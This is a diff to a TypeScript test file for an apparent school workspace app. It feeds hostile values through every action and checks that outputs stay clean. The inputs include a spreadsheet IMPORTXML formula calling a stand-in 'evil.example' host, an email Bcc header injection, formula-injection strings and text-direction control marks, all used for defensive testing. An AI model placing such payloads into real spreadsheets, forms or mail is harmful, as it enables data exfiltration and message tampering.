@@ -1,11 +1,18 @@
 // Hostile values and requests: whatever people type or a page sends, nothing runs, nothing throws, and what is refused is said.
 import fc from 'fast-check';
 import { ACTION_IDS } from '../../src/app/actions';
-import type { Reply } from '../../src/shared/contract';
-import { ANSWERS, GROUPS, MODULES, STAFF } from '../../src/workbook/tables';
+import { readDocuments } from '../../local/services/docs';
+import { allForms, readForm } from '../../local/services/form';
+import type { ActionId, Reply } from '../../src/shared/contract';
+import { ANSWERS, GROUPS, LESSONS, MODULES, PLAN, STAFF, WISHES } from '../../src/workbook/tables';
 import type { Desk } from './desk';
 import { csv, EVERYBODY, invited, PEOPLE, scored, selfOf, setUp, staffed, timetabled } from './school';
+import { answered } from './partners';
 import { deskAt } from './workspace';
+
+/** Control characters and marks that turn the direction of writing. */
+// eslint-disable-next-line no-control-regex -- exactly these are meant
+const MARKS = /[\u0000-\u0008\u000e-\u001f\u202a-\u202e\u2066-\u2069]/;
 
 /** A page's call. Words of bugs must not be among the refusals. */
 function ask(desk: Desk, request: unknown): Reply<unknown> {
@@ -17,8 +24,16 @@ function ask(desk: Desk, request: unknown): Reply<unknown> {
       expect(text).not.toMatch(/undefined|\[object|TypeError|is not a function/);
     }
   }
+  for (const text of textsIn(reply)) expect(text).not.toMatch(MARKS);
   return reply;
 }
+
+const textsIn = (value: unknown): string[] =>
+  typeof value === 'string'
+    ? [value]
+    : typeof value === 'object' && value !== null
+      ? Object.values(value).flatMap(textsIn)
+      : [];
 
 const NASTY = [
   '=1+1',
@@ -228,6 +243,142 @@ describe('hostile answers and names', () => {
       expect(html.replace(/<\/?(p|br|a)( href="https:[^"<>]*")?>/g, '')).not.toMatch(/[<>]/);
     }
   });
+
+  it('do no harm in what is made beside the cycle: routes, notes, cards, plan, partners, pairs, own forms, registers, exports', () => {
+    const desk = deskAt(answered);
+    const long = `${evil}\r\nBcc: evil@evil.example ${'ы'.repeat(49_000)}`;
+    const line = `${evil} «${NASTY[7] ?? ''}»`;
+    desk.director.type(STAFF, 'name', ({ name }) => `${name} ${line}`);
+    desk.director.addRows(LESSONS, [
+      {
+        name: desk.rows(STAFF)[0]?.name ?? '',
+        date: '15.10.2026',
+        group: line,
+        subject: line,
+        topic: long,
+        tool: '=IMPORTXML("https://evil.example")',
+        competency: 'ict.forms',
+        state: 'проведён',
+      },
+    ]);
+    desk.director.addRows(WISHES, [{ who: PEOPLE.wind.code, whom: PEOPLE.hail.code, kind: 'хочу вместе' }]);
+    desk.director.addRows(PLAN, [
+      { title: line, when: '01.09.2026', responsible: line, result: long, remind: PEOPLE.wind.email, stage: line },
+    ]);
+    const form = (desk.workspace.globals['FormApp'] as typeof FormApp).create(line);
+    form.addTextItem().setTitle(`ФИО ${line}`);
+    form
+      .addMultipleChoiceItem()
+      .setTitle(`Как Вы работаете с Google Формами? ${line}`)
+      .setChoiceValues(['Не умею', line]);
+    const cycle: readonly (readonly [ActionId, Readonly<Record<string, unknown>>])[] = [
+      [
+        'importFramework',
+        {
+          text: csv([
+            ['Раздел', 'Умение учителя', 'Не владеет', 'Базовый', 'Высокий'],
+            [line, `Новое ${line}`, line, `2${line}`, `3${line}`],
+          ]),
+        },
+      ],
+      [
+        'importCourses',
+        {
+          text: csv([
+            ['ФИО', 'Курс', 'Дата'],
+            [PEOPLE.rain.name, line, '01.02.2026'],
+          ]),
+        },
+      ],
+      [
+        'importLevels',
+        {
+          text: csv([
+            ['Код', 'Гугл-формы', line],
+            [PEOPLE.wind.code, '2', line],
+          ]),
+          source: 'test',
+          date: '2026-09-01',
+        },
+      ],
+      ['bindForm', { link: form.getEditUrl() }],
+      ['sendNeeds', {}],
+      ['processAnswers', {}],
+      ['sendAddressed', {}],
+      ['formGroups', {}],
+      ['publishGroups', {}],
+      ['agreeProgrammes', {}],
+      ['formPairs', {}],
+      ['publishTeams', {}],
+      ['setUpBank', {}],
+      [
+        'fileResources',
+        { title: line, kind: 'other', competency: 'ict.forms', link: 'https://a.example', annotation: line },
+      ],
+      ['fileLessonCards', {}],
+      ['makeRoutes', {}],
+      ['calendarPlan', {}],
+      ['remindPlan', {}],
+      ['sendPartnerSurvey', { school: 'Школа № 2', kind: 'needs' }],
+      ['sharePartnerReport', { school: 'Школа № 2' }],
+      ['writeNote', {}],
+      ['exportPerson', { person: PEOPLE.wind.code }],
+      ['usePseudonyms', { mode: 'on' }],
+      ['erasePerson', { person: PEOPLE.wind.code, reason: 'ended' }],
+    ];
+    const done = cycle.flatMap(([action, input]) => {
+      if (action === 'processAnswers')
+        desk.answer('needs', PEOPLE.fir.email, {
+          needs: ['ict.forms'],
+          'needs.other': evil.repeat(50),
+          consent: 'vr-2026-1',
+        });
+      let reply = ask(desk, { method: 'start', action, input }) as Reply<{ run: string; state: string }>;
+      while (reply.ok && reply.value.state === 'running')
+        reply = ask(desk, { method: 'pump', run: reply.value.run }) as Reply<{ run: string; state: string }>;
+      return reply.ok && reply.value.state === 'done' ? [action] : [];
+    });
+    // Whatever is refused for want of what it needs is refused in words; most is done.
+    expect(cycle.map(([action]) => action).filter((action) => !done.includes(action))).toEqual([]);
+    for (const method of ['home', 'groups', 'timetable', 'coverage', 'runs'] as const) ask(desk, { method });
+    for (const sheet of desk.director.spreadsheet.getSheets())
+      expect([
+        sheet.getName(),
+        sheet
+          .getDataRange()
+          .getFormulas()
+          .flat()
+          .filter((formula) => formula !== ''),
+      ]).toEqual([sheet.getName(), []]);
+    expect(desk.standingEvents().length).toBeGreaterThan(0);
+    for (const { description = '', summary = '', location = '' } of desk.standingEvents()) {
+      expect(description).not.toMatch(/<[a-z/!?]/i);
+      expect(`${summary}${location}`).not.toMatch(/[\r\n]/);
+      expect(`${summary}${description}${location}`).not.toMatch(MARKS);
+    }
+    for (const { subject, to, bcc } of desk.letters()) {
+      expect(subject).not.toMatch(/[\r\n]/);
+      expect(subject).not.toMatch(MARKS);
+      expect([...to, ...(bcc ?? [])].join()).not.toContain('evil');
+    }
+    const ours = desk.files().filter(({ name, id }) => name !== line && id !== form.getId());
+    expect(ours.length).toBeGreaterThan(10);
+    for (const { name, description, content = '', mimeType } of ours) {
+      expect(name).not.toMatch(/[\r\n\t]/);
+      expect(`${name}${description}`).not.toMatch(MARKS);
+      if (mimeType === 'text/csv')
+        for (const cell of Buffer.from(content, 'base64')
+          .toString('utf8')
+          .slice(1)
+          .split(/[;\r\n]+/))
+          expect(cell).not.toMatch(/^"?[=+@-]/);
+    }
+    const forms = allForms(desk.workspace.world).filter(({ id }) => id !== form.getId());
+    for (const { id } of forms)
+      expect(MARKS.test(JSON.stringify({ ...readForm(desk.workspace.world, id), responses: [] }))).toBe(false);
+    for (const document of readDocuments(desk.workspace.world))
+      expect(MARKS.test(JSON.stringify(document))).toBe(false);
+  }, 120_000);
 
   it('of 50,000 characters are kept as far as a cell goes, and the rest of the answer counts', () => {
     const desk = deskAt(invited);
